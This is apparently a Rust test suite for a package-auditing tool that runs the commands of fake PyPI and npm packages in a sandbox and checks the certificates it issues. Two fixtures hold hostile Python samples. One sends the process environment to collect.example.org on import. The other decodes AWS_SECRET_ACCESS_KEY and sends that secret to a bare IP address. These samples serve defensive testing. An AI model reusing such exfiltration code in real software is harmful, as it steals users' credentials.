//! Commands of packages, run with `--help`: packages of fake ecosystems on loopback, and runs in the real sandbox, which this
//! program supervises itself.

mod program;
mod ran;

use serde_json::{Value, json};
use sigma_testkit::{FakeEcosystem, NpmTarball, Wheel};
use tempfile::TempDir;

use program::sigma;
use ran::Ran;

struct Scene {
    eco: FakeEcosystem,
    folder: TempDir,
}

impl Scene {
    fn new() -> Self {
        Self { eco: FakeEcosystem::start(), folder: tempfile::tempdir().unwrap() }
    }

    fn run(&self, arguments: &[&str]) -> Ran {
        self.run_on(&std::env::var("PATH").unwrap(), arguments)
    }

    fn run_on(&self, path: &str, arguments: &[&str]) -> Ran {
        let mut command = sigma(self.folder.path(), &self.eco, arguments);
        Ran::from(command.env("PATH", path).output().unwrap())
    }

    /// Audits one package; its certificate as it is shown.
    fn audit(&self, package: &str, more: &[&str]) -> Value {
        let ran = self.run(&[&["audit", "--package", package, "--format", "json"], more].concat());
        assert!(matches!(ran.code, Some(0 | 1)), "{}{}", ran.out, ran.err);
        self.shown(package)
    }

    /// The newest certificate of a package.
    fn shown(&self, package: &str) -> Value {
        let shown = self.run(&["show", package, "--format", "json"]);
        assert_eq!(shown.code, Some(0), "{}{}", shown.out, shown.err);
        let newest = match shown.json() {
            Value::Array(all) => all[0].clone(),
            one => one,
        };
        assert!(newest["certificateId"].is_string(), "{newest:#}");
        newest
    }
}

const RUN: &[&str] = &["--run-entry-points"];
const STATIC: &str = "The analysis is static: the package was not executed.";

/// A command that needs another package and the metadata of its own, as real ones do.
const CLI: &str = "import argparse\nimport importlib.metadata\nimport greetings\n\n\ndef main():\n    \
    parser = argparse.ArgumentParser(description=greetings.HELLO)\n    \
    parser.add_argument('--version', action='version', version=importlib.metadata.version('speaker'))\n    \
    parser.parse_args()\n";

fn speaker(scene: &Scene, greetings: &str) {
    scene.eco.pypi.add(Wheel::new("greetings", "1.0").file("greetings/__init__.py", greetings).build());
    let speaker = Wheel::new("speaker", "2.0")
        .file("speaker/__init__.py", "")
        .file("speaker/cli.py", CLI)
        .requires("greetings>=1")
        .entry_point("speak", "speaker.cli:main")
        .entry_point("broken", "speaker.cli");
    scene.eco.pypi.add(speaker.build());
}

#[test]
fn scripts_of_a_wheel_and_programs_with_windows_are_commands_too() {
    let scene = Scene::new();
    let script =
        "#!python\nimport argparse, scripted\nargparse.ArgumentParser(description=scripted.WORD).parse_args()\n";
    let wheel = Wheel::new("scripted", "1.0")
        .file("scripted/__init__.py", "WORD = 'a word'\ndef window():\n    print('no window')\n")
        .file("scripted-1.0.dist-info/entry_points.txt", "[gui_scripts]\nshow = scripted:window\n")
        .file("scripted-1.0.data/scripts/ask", script)
        .file("scripted-1.0.data/scripts/old", "#!/bin/sh\necho old\n");
    scene.eco.pypi.add(wheel.build());
    let shown = scene.audit("pypi:scripted@1.0", RUN);
    let told: Vec<Value> = shown["execution"]["entryPoints"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| {
            json!([
                one["command"],
                one["target"],
                one["execution"]["exercised"][0]["outcome"],
                one["execution"]["reason"]
            ])
        })
        .collect();
    let refused = "it begins with `#!/bin/sh` and is no Python program";
    let expect = [
        json!(["ask", "scripted-1.0.data/scripts/ask", "exit 0", null]),
        json!(["old", "scripted-1.0.data/scripts/old", null, refused]),
        json!(["show", "scripted:window", "exit 0", null]),
    ];
    assert_eq!(told, expect, "{:#}", shown["execution"]);
}

#[test]
fn commands_run_with_their_dependencies_and_only_when_asked() {
    let scene = Scene::new();
    speaker(&scene, "HELLO = 'greets everybody'\n");
    let before = scene.audit("pypi:speaker@2.0", &[]);
    assert_eq!((before.get("execution"), &before["disclosures"][0]), (None, &json!(STATIC)));

    // A certificate without runs does not answer who asks for them: a new one replaces it.
    let ran = scene.audit("pypi:speaker@2.0", RUN);
    assert_eq!(ran["supersedes"], before["certificateId"]);
    let execution = &ran["execution"];
    assert_eq!(execution["entryPointsDeclared"], 2, "{execution:#}");
    let told = |index: usize| {
        let one = &execution["entryPoints"][index];
        (one["command"].clone(), one["execution"]["status"].clone(), one["execution"]["exercised"].clone())
    };
    assert_eq!(told(0), (json!("broken"), json!("skipped"), json!([])));
    let exercised = json!([{"what": "started with `--help`", "outcome": "exit 0"}]);
    assert_eq!(told(1), (json!("speak"), json!("completed"), exercised), "{execution:#}");
    assert_eq!(
        (&execution["status"], &execution["reason"], &execution["entryPointsNotRun"], &execution["networkAttempts"]),
        (&json!("skipped"), &json!("broken: got `speaker.cli`, expected `module:function`"), &json!(1), &json!(0))
    );
    assert_eq!(
        (&execution["sandboxTier"], &execution["dependenciesLaidOut"], &execution["notLaidOut"]),
        (&json!("namespaces"), &json!(1), &json!([]))
    );
    assert_eq!(
        ran["disclosures"][0],
        "Of the package, 1 of 2 command(s) were run in isolation with --help, and nothing else was executed."
    );
    // What has no command is not certified twice.
    assert_eq!(scene.shown("pypi:greetings@1.0").get("execution"), None);

    // Who asks again, or does not ask, gets the same certificate. Nothing is run again.
    for more in [RUN, &[]] {
        assert_eq!(scene.audit("pypi:speaker@2.0", more)["certificateId"], ran["certificateId"]);
    }
    let table = scene.run(&["show", ran["certificateId"].as_str().unwrap()]);
    assert!(table.out.contains("speak (speaker.cli:main): exit 0"), "{}", table.out);
    assert!(scene.run(&["show", "pypi:greetings@1.0"]).out.contains("not run: nobody asked for it"));
}

#[test]
fn a_setting_asks_too_and_what_cannot_run_says_why() {
    let scene = Scene::new();
    // The dependency sends the environment away when it is imported: it is blocked.
    let steals = "import os, urllib.request\n\
        urllib.request.urlopen('https://collect.example.org', data=str(dict(os.environ)).encode())\nHELLO = ''\n";
    speaker(&scene, steals);
    let config = scene.folder.path().join("config.toml");
    std::fs::write(&config, "[review]\nrun_entry_points = true\n").unwrap();
    let with = ["--config", config.to_str().unwrap()];
    let ran = scene.run(&[&with[..], &["audit", "--package", "pypi:speaker@2.0"]].concat());
    assert_eq!(ran.code, Some(1), "{}{}", ran.out, ran.err);
    let certificate = scene.shown("pypi:speaker@2.0");
    let execution = &certificate["execution"];
    assert_eq!(
        (&execution["status"], &execution["reason"]),
        (&json!("skipped"), &json!("its dependency pypi:greetings@1.0 is BLOCKED"))
    );
    // Nothing was run, and that is not "nothing was seen".
    for unknown in ["networkAttempts", "spawnAttempts", "filesWritten", "entryPointsDeclared", "sandboxTier"] {
        assert_eq!(execution[unknown], Value::Null, "{unknown}");
    }
    assert_eq!(execution["entryPoints"], json!([]));
    assert_eq!(
        certificate["disclosures"][0],
        "The analysis is static: the package's commands were to be run and were not: its dependency pypi:greetings@1.0 is \
         BLOCKED."
    );
    // What is blocked itself is not run, and keeps its certificate.
    assert_eq!(scene.shown("pypi:greetings@1.0").get("execution"), None);
    // The obstacle is still there: asked again, nothing changes.
    let again = scene.run(&[&with[..], &["audit", "--package", "pypi:speaker@2.0"]].concat());
    assert_eq!(again.code, Some(1));
    assert_eq!(scene.shown("pypi:speaker@2.0")["certificateId"], certificate["certificateId"]);
}

#[test]
fn what_was_prevented_is_run_once_nothing_prevents_it() {
    let scene = Scene::new();
    speaker(&scene, "HELLO = ''\n");
    let without = scene.run_on("", &["audit", "--package", "pypi:speaker@2.0", "--run-entry-points"]);
    assert_eq!(without.code, Some(0), "{}{}", without.out, without.err);
    let prevented = scene.shown("pypi:speaker@2.0");
    assert_eq!(prevented["execution"]["reason"], "Python 3 was not found on this machine");
    let ran = scene.audit("pypi:speaker@2.0", RUN);
    assert_eq!(
        (&ran["supersedes"], &ran["execution"]["entryPointsDeclared"]),
        (&prevented["certificateId"], &json!(2))
    );
}

#[test]
fn what_a_command_does_when_it_is_asked_for_help_reaches_the_council() {
    let scene = Scene::new();
    // Each is harmless to read and says what it does at run time only.
    let cli = "import os, socket, subprocess, base64\n\n\ndef main():\n    \
        name = base64.b64decode('QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZ').decode()\n    secret = os.environ.get(name, '')\n    \
        subprocess.call(['/bin/true'])\n    connection = socket.create_connection(('192.0.2.7', 443), timeout=2)\n    \
        connection.sendall(secret.encode())\n";
    let wheel = Wheel::new("helper", "1.0")
        .file("helper/__init__.py", "")
        .file("helper/cli.py", cli)
        .entry_point("helper", "helper.cli:main");
    scene.eco.pypi.add(wheel.build());
    let certificate = scene.audit("pypi:helper@1.0", RUN);
    let execution = &certificate["execution"];
    assert_eq!(execution["status"], "completed", "{execution:#}");
    assert!(execution["networkAttempts"].as_u64().unwrap() >= 1, "{execution:#}");
    assert_eq!(execution["spawnAttempts"], 1, "{execution:#}");
    let network = &execution["entryPoints"][0]["execution"]["network"][0];
    assert_eq!(network["destination"], "192.0.2.7:443", "{execution:#}");
    let warnings: Vec<(&str, &str)> = certificate["retainedWarnings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|one| Some((one["code"].as_str()?, one["location"].as_str()?)))
        .collect();
    assert!(warnings.contains(&("execution/network-bare-address", "helper --help")), "{warnings:?}");
    assert!(warnings.contains(&("entry-point-reads-secrets-and-reaches-out", "helper --help")), "{warnings:?}");
    assert!(certificate["securityLevel"] != "CLEAR", "{certificate:#}");
    let flags = execution["entryPoints"][0]["execution"]["retainedRiskFlags"].to_string();
    assert!(flags.contains("network-bare-address"), "{flags}");
}

#[test]
fn npm_commands_find_what_they_need_and_their_number_is_bounded() {
    let scene = Scene::new();
    let left = NpmTarball::new("left", "1.0.0").file("index.js", "module.exports = text => text + '!';\n");
    scene.eco.npm.add(left.dependency("deep", "^1.0.0").build());
    scene.eco.npm.add(NpmTarball::new("deep", "1.0.0").file("index.js", "module.exports = 1;\n").build());
    let cli = "#!/usr/bin/env node\nconst left = require('left');\nconst own = require('../package.json');\n\
        if (process.argv.includes('--help')) { console.log(left(own.name)); process.exit(0); }\nprocess.exit(7);\n";
    let bins: Value = (0..7).map(|index| (format!("say{index}"), json!("./bin/cli.js"))).collect();
    let say = NpmTarball::new("@scope/say", "3.0.0")
        .file("bin/cli.js", cli)
        .file("run.sh", "#!/bin/sh\ntouch /tmp/no\n")
        .package_json(json!({"bin": bins}))
        // Nothing that runs at installation is run for this.
        .script("postinstall", "node -e \"process.exit(3)\"")
        .dependency("left", "^1.0.0");
    scene.eco.npm.add(say.build());
    let certificate = scene.audit("npm:@scope/say@3.0.0", RUN);
    let execution = &certificate["execution"];
    assert_eq!(
        (&execution["status"], &execution["entryPointsDeclared"], &execution["entryPointsNotRun"]),
        (&json!("completed"), &json!(7), &json!(2)),
        "{execution:#}"
    );
    for one in execution["entryPoints"].as_array().unwrap() {
        assert_eq!(one["arguments"], json!(["--help"]));
        assert_eq!(one["execution"]["exercised"][0]["outcome"], "exit 0", "{one:#}");
    }
    assert_eq!(execution["dependenciesLaidOut"], 2);
    let disclosures = certificate["disclosures"].to_string();
    assert!(disclosures.contains("2 further command(s) were not run"), "{disclosures}");
}
